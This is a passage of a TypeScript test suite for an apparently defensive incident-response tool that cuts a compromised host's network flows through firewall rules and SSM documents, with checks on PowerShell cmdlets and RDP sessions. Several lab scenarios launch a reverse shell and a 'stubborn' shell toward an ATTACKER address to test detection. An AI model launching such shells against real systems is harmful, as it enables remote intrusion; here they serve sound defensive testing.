  assert.match(lab.victim('ls -lnq /proc/[0-9]*/fd'), /x\?\/proc\/1\/fd:\?lrwx .* socket/);
  assert.equal(owner(), before);
});

scenario('flows of a named process and of its descendants are marked', async (lab) => {
  lab.startShell(
    `/usr/bin/python3 -u ${new URL('peers.py', import.meta.url).pathname} stubborn_shell ${ATTACKER} ${SHELL}; true`,
  );
  lab.start('reverse_shell', ATTACKER_V6, SHELL_V6);
  await lab.alive(SHELL, SHELL_V6);
  const parent = lab
    .victim('grep -l stubborn_shell /proc/[0-9]*/cmdline | grep -v self | head -1 | cut -d/ -f3')
    .trim();
  const { flows } = lab.script('list', { remote: 'none', environment: { SSM_Pids: parent } });
  assert.equal(flows.find(({ remotePort }) => remotePort === SHELL)?.asked, 'pid');
  assert.equal(flows.find(({ remotePort }) => remotePort === SHELL_V6)?.asked, null);
});

// ------------------------------------------------------------------------------------------------------- the documents

const root = new URL('../../', import.meta.url).pathname;

function still(title: string, body: () => void): void {
  scenarios.push({ title, body: () => Promise.resolve(body()).then(() => undefined) });
}

still('shellcheck has nothing to say', () => {
  run(['shellcheck', '-s', 'sh', SCRIPT, `${root}scripts/kernel-lab-setup.sh`]);
});

still('the documents hold the scripts as they are', () => {
  run([process.execPath, `${root}scripts/build-documents.ts`, '--check']);
});

/** Cmdlets and parameters of Windows PowerShell 5.1 as documented: what the script uses and no test here can execute. */
const CMDLETS: Record<string, readonly string[]> = {
  'ConvertTo-Json': ['Compress'],
  'ForEach-Object': [],
  'Get-NetFirewallAddressFilter': [],
  'Get-NetFirewallRule': ['Group', 'ErrorAction'],
  'Get-NetTCPConnection': ['State'],
  'Get-Process': [],
  'New-NetFirewallRule': ['DisplayName', 'Group', 'Direction', 'Action', 'RemoteAddress', 'Profile', 'Enabled'],
  'New-Object': [],
  'Remove-NetFirewallRule': ['Group', 'ErrorAction'],
  'Set-StrictMode': ['Version'],
  'Sort-Object': [],
  'Start-Sleep': ['Milliseconds'],
  'Stop-Process': ['Id', 'Force', 'ErrorAction'],
  'Where-Object': [],
};

still('the Windows script uses only documented cmdlets and parameters (it is not executed here)', () => {
  const text = readFileSync(`${root}documents/flowcut-host-windows.ps1`, 'utf8').replaceAll(/#.*/g, '');
  const own = new Set([...text.matchAll(/^function (\S+?)[\s(]/gm)].map(([, name]) => name));
  for (const [, name = '', rest = ''] of text.matchAll(/(?<![\w'-])([A-Z][a-z]+-[A-Z]\w+)([^|;{}\n)]*)/g)) {
    if (own.has(name)) continue;
    const allowed = CMDLETS[name];
    assert.ok(allowed !== undefined, `${name} is not in the table`);
    for (const [, parameter = ''] of rest.matchAll(/\s-([A-Z]\w+)/g))
      assert.ok(allowed.includes(parameter), `${name} -${parameter}`);
  }
});

still('the Windows script finds the number of an RDP session, whatever its user is called', () => {
  const text = readFileSync(`${root}documents/flowcut-host-windows.ps1`, 'utf8');
  const pattern = new RegExp(/-notmatch '(\^\[ >\]rdp-tcp.*?)'/.exec(text)?.[1] ?? '(?!)');
  const session = (line: string): string | undefined => pattern.exec(line)?.[1];
  assert.equal(session('>rdp-tcp#3         Administrator             2  Active'), '2');
  assert.equal(session(' rdp-tcp#12        7                        14  Aktiv   rdpwd'), '14');
  assert.equal(session(' rdp-tcp                                 65536  Listen'), undefined);
  assert.equal(session(' services                                    0  Disc'), undefined);
});

scenario('an agent from before ENV_VAR writes the parameters into the document itself', async (lab) => {
  await liveShell(lab);
  const document = JSON.parse(readFileSync(`${root}documents/flowcut-host-linux.json`, 'utf8')) as {
    parameters: Record<string, { default?: string; allowedPattern: string }>;
    mainSteps: [{ inputs: { runCommand: string[] } }];
  };
  const given: Record<string, string> = { Verb: 'cut', CaseId: 'case-1', RemoteAddresses: ATTACKER };
  const lines = document.mainSteps[0].inputs.runCommand.join('\n').replaceAll(/\{\{(\w+)\}\}/g, (_, name: string) => {
    const parameter = document.parameters[name];
    const value = given[name] ?? parameter?.default ?? '';
    assert.match(value, new RegExp(parameter?.allowedPattern ?? '(?!)'));
    return value;
  });
  const { verdict } = lab.document('cut', lines);
  assert.deepEqual([verdict.survived, verdict.firewall, verdict.errors], [0, 'nftables', []]);
});
